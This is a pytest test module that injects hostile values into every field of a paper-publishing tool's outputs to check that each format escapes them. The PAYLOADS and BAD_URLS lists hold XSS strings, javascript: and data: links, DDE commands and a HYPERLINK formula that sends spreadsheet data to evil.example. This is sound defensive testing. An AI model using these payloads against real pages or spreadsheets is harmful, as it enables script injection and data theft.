"""Every publish format escapes for its format (issue 13, point 5), on real papers with hostile values injected.

Papers come from tests/fixtures/publish_papers.json; every text field (title, authors, venue, status, track,
abstract, digest, TL;DR, keyphrases, sections, topic labels, link URLs and labels, notes) gets a hostile value.
Markdown outputs are rendered with markdown-it-py in CommonMark mode with raw HTML enabled (as GitHub-like renderers
treat raw HTML) and must hold no script, no ``on*=`` attribute and no non-http(s) link; only http(s) and DOI links
are links in any output; CSV cells that a spreadsheet would run as formulas get a leading ``'``.
"""

from __future__ import annotations

import csv
import io
import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from paperatlas.mapview import map_payload
from paperatlas.model import Link, Paper, Topic
from paperatlas.publish import render
from paperatlas.publish._common import md_url, safe_note_md
from paperatlas.publish.csv_out import COLUMNS
from paperatlas.publish.site import write_site
from paperatlas.text import safe_url

FIXTURES = Path(__file__).parent / "fixtures"

#: Hostile strings: HTML/script injection, Markdown links with unsafe schemes, math-span and code-span escapes,
#: character references, spreadsheet formulas, template syntax.
PAYLOADS = [
    "<script>window.__xss=1</script>",
    '<img src=x onerror="window.__xss=2">',
    "<svg onload=window.__xss=3>",
    '"><script>window.__xss=4</script>',
    "'><img src=x onerror=window.__xss=5>",
    "</script><script>window.__xss=6</script>",
    "</textarea><script>window.__xss=7</script>",
    "</title><script>window.__xss=8</script>",
    '<iframe src="javascript:window.__xss=9"></iframe>',
    "[click](javascript:window.__xss=10)",
    "![img](javascript:window.__xss=11)",
    "<javascript:window.__xss=12>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(14))",
    '<a href="javascript:window.__xss=15">a</a>',
    "$<script>window.__xss=16</script>$",
    "`</code><script>window.__xss=17</script>`",
    "&lt;script&gt;window.__xss=18&lt;/script&gt;",
    "<details open ontoggle=window.__xss=19>",
    "<body onload=window.__xss=20>",
    '<div style="background:url(javascript:window.__xss=21)">',
    "[a]: javascript:window.__xss=22",
    '=HYPERLINK("http://evil.example/?x="&A1,"23")',
    '+cmd|" /C calc"!A0',
    '-2+3+cmd|" /C calc"!A0',
    '@SUM(1+1)*cmd|" /C calc"!A0',
    "\t=1+1",
    "\r=1+1",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    '<style>@import "javascript:window.__xss=30"</style>',
    "</details><script>window.__xss=31</script>",
    '[x](jav&#97;script:window.__xss=32) [y](javascript\\:window.__xss=33)',
]

#: Link URLs that must never become links.
BAD_URLS = ["javascript:window.__xss=40", "JaVaScRiPt:window.__xss=41", " javascript:window.__xss=42",
            "java\tscript:window.__xss=43", "data:text/html,<script>window.__xss=44</script>",
            "vbscript:msgbox(45)", "file:///etc/passwd", "//evil.example/x", "&#106;avascript:window.__xss=46",
            "/relative/path", "mailto:a@example.org"]

#: Safe links with characters that must be percent-encoded in Markdown, and a bare DOI.
ODD_URL = "https://example.org/a b(c)<d>\"e'f\\g"
BARE_DOI = "10.1234/abc.def"

UNSAFE_SCHEME = re.compile(r"^(?:javascript|data|vbscript|file):", re.I)


def _payload(i: int) -> str:
    return PAYLOADS[i % len(PAYLOADS)]


@pytest.fixture
def hostile():
    """(papers, topics, related): the fixture papers with a hostile value in every text field and link."""
    doc = json.loads((FIXTURES / "publish_papers.json").read_text(encoding="utf-8"))
    papers = [Paper.from_dict(d) for d in doc["papers"]]
    topics = [Topic(**t) for t in doc["topics"]]
    k = 0
    for i, p in enumerate(papers):
        def nxt() -> str:
            nonlocal k
            k += 1
            return _payload(k)

        p.title = f"{nxt()} {p.title} {nxt()}"
        p.authors = [nxt(), *p.authors, nxt()]
        p.venue, p.status, p.track = nxt(), nxt(), nxt()
        p.abstract = f"{nxt()}\n\n{p.abstract}"
        p.digest, p.tldr = nxt(), nxt()
        p.keyphrases = [nxt(), *p.keyphrases]
        p.given_keyphrases = [nxt(), *p.given_keyphrases]
        p.sections = [nxt()]
        bad = BAD_URLS[i % len(BAD_URLS)]
        p.links = [Link(bad, "paper", nxt()), Link(BAD_URLS[(i + 3) % len(BAD_URLS)], "code", nxt()),
                   *p.links,
                   Link(ODD_URL if i % 2 else BARE_DOI, "paper", nxt()), Link(bad, nxt(), nxt())]
        p.extra["note"] = "\n\n".join([nxt(), nxt(), "A *real* note with [a link](https://example.org/n)."])
    for t in topics:
        t.label = f"{_payload(k + t.id)} {t.label}"
        t.keyphrases = [_payload(k + t.id + 1), *t.keyphrases]
    return papers, topics, doc["related"]


class _Html(HTMLParser):
    """Tags, attributes and text of an HTML document."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text: list[str] = []
        self.script_bodies: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {k: v or "" for k, v in attrs}))
        self._in_script = tag == "script"

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        (self.script_bodies if self._in_script else self.text).append(data)


def _parse(html_text: str) -> _Html:
    parser = _Html()
    parser.feed(html_text)
    parser.close()
    return parser


def _assert_safe_html(html_text: str, *, scripts_allowed: bool = False) -> _Html:
    doc = _parse(html_text)
    for tag, attrs in doc.tags:
        if not scripts_allowed:
            assert tag not in ("script", "iframe", "svg", "img", "style", "body", "div", "math", "textarea"), tag
        handlers = [v for a, v in attrs.items() if a.startswith("on")]
        assert not handlers or scripts_allowed and handlers == ["return false"], (tag, attrs)  # the site's search form
        for name in ("href", "src", "action", "formaction", "xlink:href"):
            if tag == "link" and attrs.get("rel") == "icon" and attrs.get(name, "").startswith("data:image/svg+xml,"):
                continue  # the page's own inline icon (paperatlas.markup.FAVICON)
            if name in attrs:
                value = re.sub(r"[\x00-\x20]", "", attrs[name])
                assert not UNSAFE_SCHEME.match(value), (tag, attrs)
                if value.startswith("#"):  # a heading anchor of the document itself
                    assert re.fullmatch(r"#[\w-]*", value), value
                if tag == "a" and name == "href" and not scripts_allowed and not attrs[name].startswith("#"):
                    assert safe_url(attrs[name]) == attrs[name] and attrs[name].lower().startswith("http"), attrs
    if not scripts_allowed:
        assert "<script" not in html_text.lower()
    return doc


MARKDOWN_FORMATS = ("awesome-md", "topics-md", "highlights-md")


@pytest.mark.parametrize("fmt", MARKDOWN_FORMATS)
def test_markdown_outputs_render_no_html_no_unsafe_links_and_show_the_text(hostile, fmt):
    papers, topics, related = hostile
    md = render(fmt, papers, topics, related)
    html_text = MarkdownIt("commonmark", {"html": True}).render(md)
    doc = _assert_safe_html(html_text)
    text = " ".join(" ".join(doc.text).split())
    for p in papers:  # every title is shown as text, exactly as given (whitespace folded)
        assert " ".join(p.title.split()) in text, p.title
    hrefs = [a["href"] for tag, a in doc.tags if tag == "a" and "href" in a and not a["href"].startswith("#")]
    assert hrefs or fmt != "awesome-md"
    if fmt == "awesome-md":  # the fall-back safe links: the odd URL percent-encoded, the bare DOI on doi.org
        assert "https://example.org/a%20b%28c%29%3Cd%3E%22e%27f%5Cg" in hrefs
        assert f"https://doi.org/{BARE_DOI}" in hrefs


def test_highlights_html_has_no_script_no_handler_and_no_unsafe_link(hostile):
    papers, topics, related = hostile
    page = render("highlights-html", papers, topics, related)
    body = page.split("<body>", 1)[1]
    doc = _assert_safe_html(body)
    assert any(tag == "a" and a.get("href") == "https://example.org/n" for tag, a in doc.tags)  # the note's link
    head = _parse(page.split("<body>", 1)[0])
    assert [t for t, _ in head.tags if t == "script"] == []


def test_md_url_and_safe_url():
    assert md_url("javascript:alert(1)") == "" and md_url("") == "" and md_url(None) == ""
    assert md_url(ODD_URL) == "https://example.org/a%20b%28c%29%3Cd%3E%22e%27f%5Cg"
    assert md_url("https://example.org/ü x") == "https://example.org/ü%20x"
    assert md_url(BARE_DOI) == f"https://doi.org/{BARE_DOI}" and safe_url(f"doi:{BARE_DOI}").endswith(BARE_DOI)
    for bad in BAD_URLS:
        assert safe_url(bad) is None, bad
    assert safe_url(" https://x.org/a ") == "https://x.org/a" and safe_url("HTTP://X.ORG") == "HTTP://X.ORG"


def test_safe_note_md_keeps_ordinary_markdown_and_neutralises_html_and_unsafe_links():
    ordinary = "Worth *reading*: see [arXiv](https://arxiv.org/abs/2010.00000) and `code<T>`.\n\n- one\n- two"
    assert safe_note_md(ordinary) == ordinary
    md = MarkdownIt("commonmark", {"html": True})
    for payload in PAYLOADS:
        out = md.render(safe_note_md(payload))
        _assert_safe_html(out)
        assert 'href="' not in out, (payload, out)
    assert safe_note_md("[x\\](javascript:alert(1))") == "[x\\](javascript:alert(1))"  # already plain text


def test_csv_prefixes_formula_cells_and_changes_nothing_else(hostile):
    papers, topics, related = hostile
    text = render("csv", papers, topics, related)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert tuple(rows[0]) == COLUMNS
    labels = {t.id: t.label for t in topics}
    by_id = {p.id: p for p in papers}
    text_columns = {"id", "title", "authors", "venue", "status", "track", "topic_label", "tldr", "keyphrases",
                    "abstract"}
    prefixed = 0
    for row in rows[1:]:
        cells = dict(zip(COLUMNS, row, strict=True))
        p = by_id[cells["id"]]
        raw = {"id": p.id, "title": p.title, "authors": "; ".join(p.authors), "venue": p.venue,
               "status": p.status, "track": p.track, "topic_label": labels.get(p.topic_id, ""), "tldr": p.tldr,
               "keyphrases": "; ".join(p.keyphrases), "abstract": p.abstract}
        for col in text_columns:
            value = raw[col]
            if value.startswith(("=", "+", "-", "@", "\t", "\r")):
                assert cells[col] == "'" + value, col
                prefixed += 1
            else:
                assert cells[col] == value, col
        for col in ("paper_url", "code_url"):
            assert cells[col] == "" or safe_url(cells[col]) == cells[col], cells[col]
        assert cells["x"] == str(float(p.x)) and cells["y"] == str(float(p.y))  # numbers as they are
    assert prefixed >= 6


def test_csv_of_ordinary_papers_is_unchanged_including_negative_coordinates():
    doc = json.loads((FIXTURES / "publish_papers.json").read_text(encoding="utf-8"))
    papers = [Paper.from_dict(d) for d in doc["papers"]]
    assert any(p.x is not None and p.x < 0 or p.y is not None and p.y < 0 for p in papers)
    text = render("csv", papers, [Topic(**t) for t in doc["topics"]], {})
    assert "'" + "-" not in text.replace("'-'", "")
    for row in list(csv.reader(io.StringIO(text, newline="")))[1:]:
        assert not any(cell.startswith("'") for cell in row)


def test_json_csl_bibtex_keep_only_http_and_doi_urls(hostile):
    papers, topics, related = hostile
    records = json.loads(render("json", papers, topics, related))
    urls = [link["url"] for r in records for link in r["links"]]
    assert urls and all(u == "" or safe_url(u) == u for u in urls)
    assert f"https://doi.org/{BARE_DOI}" in urls and ODD_URL in urls
    assert sorted(r["title"] for r in records) == sorted(p.title for p in papers)  # data kept as it is
    items = json.loads(render("csl-json", papers, topics, related))
    assert all(safe_url(item["URL"]) == item["URL"] for item in items if "URL" in item)
    bib = render("bibtex", papers, topics, related)
    for line in bib.splitlines():
        if line.strip().startswith("url"):
            url = line.split("=", 1)[1].strip().strip(",").strip("{}")
            assert url.lower().startswith(("http://", "https://")), line
    assert not re.search(r"(?i)(javascript|vbscript|data):", "\n".join(
        ln for ln in bib.splitlines() if ln.strip().startswith("url")))


def test_map_payload_and_page_link_only_http(hostile):
    papers, topics, _ = hostile
    payload = map_payload(papers, topics)
    assert all(u == "" or u.lower().startswith(("http://", "https://")) for u in payload["url"])
    page = render("map", papers, topics, {})
    data = re.search(r'id="atlas-data"[^>]*>(.*?)</script>', page, re.S) or re.search(
        r"(\{\"ids\".*?\})\s*;?\s*</script>", page, re.S)
    if data:
        assert "<" not in data.group(1)
    for p in papers[:3]:
        assert p.title not in page  # only inside the JSON, with "<" escaped


def test_site_pages_escape_every_field_and_link_only_http(hostile, tmp_path):
    papers, topics, related = hostile
    out = write_site(papers, topics, related, tmp_path / "site", title="T <script>window.__xss=99</script>")
    for page in [*out.glob("*.html"), *(out / "paper").glob("*.html"), *(out / "topic").glob("*.html")]:
        if page.name == "map.html":
            continue
        html_text = page.read_text(encoding="utf-8")
        doc = _assert_safe_html(html_text, scripts_allowed=True)
        for tag, attrs in doc.tags:
            if tag == "script":
                assert attrs.get("src"), page  # only the site's own script files
            if tag == "a" and "href" in attrs:
                href = attrs["href"]
                assert safe_url(href) == href or "://" not in href and ":" not in href.split("/")[0], href
        assert not [b for b in doc.script_bodies if b.strip()], page
    paper_page = next((out / "paper").glob("*.html")).read_text(encoding="utf-8")
    assert "&lt;script&gt;" in paper_page
    data = (out / "data" / "papers.js").read_text(encoding="utf-8")
    assert "<" not in data


@pytest.mark.browser
def test_site_and_map_run_no_injected_script_in_chromium(hostile, tmp_path, browser):
    papers, topics, related = hostile
    out = write_site(papers, topics, related, tmp_path / "site", title="T <script>window.__xss=99</script>")
    page = browser.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    urls = [out / "index.html", *sorted((out / "paper").glob("*.html")), *sorted((out / "topic").glob("*.html"))]
    for url in urls:
        page.goto(url.as_uri())
        page.wait_for_load_state("load")
        assert page.evaluate("() => window.__xss") is None, url
    page.goto((out / "index.html").as_uri())
    for query in ("script", "onerror", "javascript", "img", "HYPERLINK"):
        box = page.locator("input[type=search], input#q, input").first
        box.fill(query)
        page.wait_for_timeout(150)
        assert page.evaluate("() => window.__xss") is None, query
    hrefs = page.evaluate("() => Array.from(document.querySelectorAll('a[href]')).map(a => a.getAttribute('href'))")
    assert not [h for h in hrefs if UNSAFE_SCHEME.match(h)]
    page.goto((out / "map.html").as_uri())
    page.wait_for_load_state("load")
    page.wait_for_timeout(500)
    assert page.evaluate("() => window.__xss") is None
    for fmt in ("highlights-html",):
        path = tmp_path / f"{fmt}.html"
        path.write_text(render(fmt, papers, topics, related), encoding="utf-8")
        page.goto(path.as_uri())
        assert page.evaluate("() => window.__xss") is None
    md_page = tmp_path / "md.html"
    for fmt in MARKDOWN_FORMATS:  # the Markdown outputs rendered with raw HTML on, opened in the browser
        md_page.write_text(MarkdownIt("commonmark", {"html": True}).render(render(fmt, papers, topics, related)),
                           encoding="utf-8")
        page.goto(md_page.as_uri())
        page.wait_for_timeout(100)
        assert page.evaluate("() => window.__xss") is None, fmt
        for link in page.locator("a[href]").all():
            assert not UNSAFE_SCHEME.match(link.get_attribute("href") or ""), fmt
    assert dialogs == []
    page.close()
